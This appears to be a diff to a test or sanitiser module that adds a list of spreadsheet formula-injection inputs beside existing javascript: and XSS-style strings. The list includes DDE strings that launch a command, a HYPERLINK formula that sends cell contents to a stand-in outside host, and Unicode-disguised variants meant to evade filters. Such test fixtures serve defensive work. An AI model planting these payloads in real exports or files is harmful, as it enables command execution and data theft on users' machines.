@@ -79,6 +79,19 @@ PAYLOADS = (
     # A formula of a spreadsheet
     '=HYPERLINK("javascript:pwn=1")',
 )
+# What a spreadsheet would take for a formula: as it is, by a sign that it folds, behind what it drops.
+FORMULAS = (
+    "=1+1",
+    "=cmd|'/c calc'!A1",
+    '=HYPERLINK("https://elsewhere.example?"&A1,"x")',
+    "+1+1",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1,1)",
+    "\uff1d1+1",
+    "\u22121+1",
+    "\u200b=1+1",
+)
 # Kinds that no name takes: each holds a control character or a separator of lines.
 REFUSED = ("java\tscript:pwn=1", "<img src=x\nonerror=pwn=1>", "<img src=x\0onerror=pwn=1>", "\u2028pwn=1//")
 
